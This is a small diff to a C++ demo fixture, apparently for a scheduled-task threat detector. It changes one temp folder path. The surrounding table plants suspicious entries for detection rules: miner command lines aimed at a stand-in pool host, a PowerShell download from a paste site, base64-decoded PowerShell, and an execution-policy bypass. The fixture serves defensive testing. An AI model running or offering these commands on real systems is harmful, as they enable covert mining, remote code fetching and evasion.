@@ -46,7 +46,7 @@ constexpr auto kCommands = std::to_array<TaskRow>({
     {Planted, "miner_command_line", R"(\More\mine at pool)", R"(C:\Tools\mc-pool.exe)", "-o x.example:3333 -u erp01 -p x -k"},
     {Planted, "miner_command_line", R"(\More\mine by algorithm)", R"(C:\Tools\mc-algorithm.exe)", "--algo rx/0"},
     {Planted, "nameless_program_in_data_folder", R"(\More\nameless in temp)", R"(C:\Users\li\AppData\Local\Temp\nameless.exe)"},
-    {Planted, "nameless_program_in_data_folder", R"(\More\nameless below temp)", R"(C:\Windows\Temp\work\nameless.exe)"},
+    {Planted, "nameless_program_in_data_folder", R"(\More\nameless below temp)", R"(C:\Windows\Temp\job\nameless.exe)"},
     {Planted, "powershell_command_fetches_from_nowhere", R"(\More\fetch from paste)", "powershell.exe", R"(-c "irm https://hastebin.com/raw/abcd -OutFile D:\Out\a")"},
     {Planted, "powershell_encoded", R"(\More\encoded inline)", "powershell.exe", R"x(-c "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:X))")x"},
     {Planted, "powershell_hidden_window", R"(\More\silent)", "powershell.exe", "-noni -ep bypass -c Get-Date"},
@@ -79,7 +79,7 @@ void exhibit_more_commands(const Exhibition& at) {
     at.exhibit.file("Tools/PsExec64.exe", executor);
     const std::string nameless = program({.company = "-"});
     at.exhibit.file("Users/li/AppData/Local/Temp/nameless.exe", nameless);
-    at.exhibit.file("Windows/Temp/work/nameless.exe", nameless);
+    at.exhibit.file("Windows/Temp/job/nameless.exe", nameless);
 }
 
 }  // namespace xiezhi::demo
